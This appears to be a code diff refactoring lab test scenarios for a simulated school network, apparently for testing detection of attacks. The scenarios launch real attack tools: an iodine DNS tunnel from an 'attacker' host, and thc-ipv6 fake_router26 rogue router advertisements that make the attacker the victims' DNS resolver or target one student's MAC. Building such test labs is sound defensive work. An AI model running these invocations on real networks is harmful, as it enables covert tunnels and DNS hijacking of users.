@@ -32,7 +32,8 @@ from tests.lab.scenarios import (
     Outcome,
     Scenario,
     _bounded,
-    _link_local,
+    _fake_router26,
+    _iodine_tunnel,
     _nd_traffic,
 )
 
@@ -74,35 +75,16 @@ def _iodine(name: str, qtype: str = "", enc: str = "", raw: bool = False, direct
 
     def run(lan: SchoolLan, small: bool = False) -> Outcome:
         a, wan = lan.attacker, lan.wan
-        server = lan.start(
-            wan.ns, "iodined-var", "iodined", "-f", "-c", "-P", "labsecret", "-l", wan.ip,
-            "-p", "53", "172.31.79.1/27", TUNNEL_DOMAIN,
-        )  # fmt: skip
         args = ["-f"] + ([] if raw else ["-r"])
         args += ["-T", qtype] if qtype else []
         args += ["-O", enc] if enc else []
         args += ["-P", "labsecret", wan.ip if direct else lan.srv.ip, TUNNEL_DOMAIN]
-        client = None
-        up = False
         pings = "30" if raw else "8"  # raw mode: a datagram each, no DNS at all
-        try:
-            time.sleep(1)
-            lan.attack_started = time.monotonic()
-            client = lan.start(a.ns, "iodine-var", "timeout", "-s", "INT", "40", "iodine", *args)
-            deadline = time.monotonic() + 30
-            while time.monotonic() < deadline and client.poll() is None:
-                if "Connection setup complete" in lan.log("iodine-var"):
-                    up = True
-                    break
-                time.sleep(0.3)
+        with _iodine_tunnel(lan, "var", "172.31.79.1", args, 40) as up:
             if up:  # a little data through the tunnel
                 lan.run(
                     a.ns, "busybox", "ping", "-c", pings, "-i", "0.3", "172.31.79.1", timeout=20
                 )
-        finally:
-            if client is not None:
-                lan.stop(client, signal.SIGINT)
-            lan.stop(server)
         log = lan.log("iodine-var")
         path = (
             f"straight to iodined on the internet host ({wan.ip})"
@@ -580,28 +562,17 @@ def nd_advertise_student(lan: SchoolLan, small: bool = False) -> Outcome:
     )
 
 
-def _fake_router26(name: str, extra: list[str], what: str):  # type: ignore[no-untyped-def]
+def _router_advertising(name: str, extra: list[str], what: str):  # type: ignore[no-untyped-def]
     def run(lan: SchoolLan, small: bool = False) -> Outcome:
-        a, victim = lan.attacker, lan.students[0]
-        lan.ipv6(a, ATTACKER6)
-        lan.ipv6(victim, STUDENT6)
-        args = [x.format(victim_mac=victim.mac, dns=ATTACKER6) for x in extra]
+        args = [x.format(victim_mac=lan.students[0].mac, dns=ATTACKER6) for x in extra]
         args += ["-i", "2", "-n", "5", IF]
-        try:
-            time.sleep(2)
-            lan.run(victim.ns, "sysctl", "-qw", f"net.ipv6.conf.{IF}.accept_ra=2")
-            lan.attack_started = time.monotonic()
-            out = _bounded(lan, a.ns, 20, "atk6-fake_router26", *args)
-            link_local = _link_local(lan, a)
-        finally:
-            lan.ipv6(victim, None)
-            lan.ipv6(a, None)
+        out, link_local = _fake_router26(lan, args, accept_ra=True)
         return Outcome(
             name,
             ("rogue_ra",),
             "atk6-fake_router26 " + " ".join(args),
             f"thc-ipv6 fake_router26: five router advertisements {what}",
-            a,
+            lan.attacker,
             "thc-ipv6",
             notes={"attacker_ip6": link_local, "output_tail": out[-300:]},
         )
@@ -609,13 +580,13 @@ def _fake_router26(name: str, extra: list[str], what: str):  # type: ignore[no-u
     return run
 
 
-rogue_ra_dns_only = _fake_router26(
+rogue_ra_dns_only = _router_advertising(
     "rogue_ra_dns_only",
     ["-l", "0", "-D", "{dns}", "-A", "fd77:bad::/64"],
     "with router lifetime 0 (not a default router) but a prefix and the attacker as "
     "DNS server (RDNSS): hosts keep their router and take the attacker's resolver",
 )
-rogue_ra_unicast = _fake_router26(
+rogue_ra_unicast = _router_advertising(
     "rogue_ra_unicast",
     ["-m", "{victim_mac}", "-A", "fd77:bad::/64", "-p", "high", "-l", "9000"],
     "sent to student 1's MAC alone (-m), high preference, router lifetime 9000 s",
